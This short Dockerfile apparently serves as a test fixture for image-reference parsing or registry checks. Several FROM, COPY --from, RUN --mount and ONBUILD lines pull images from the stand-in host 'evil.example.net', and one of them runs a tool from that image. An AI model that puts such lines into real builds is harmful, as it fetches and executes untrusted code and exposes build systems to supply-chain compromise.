ARG REGISTRY=evil.example.net
FROM debian:12 AS base
FROM ${REGISTRY}/app:1
FROM $UNKNOWN/app:1
FROM registry.example.com:5000/app:1
COPY --from=nginx:1.27 /a /a
RUN --mount=type=bind,from=evil.example.net/tool:1,target=/t \
    /t/run
ONBUILD COPY --from=evil.example.net/a:1 /a /a
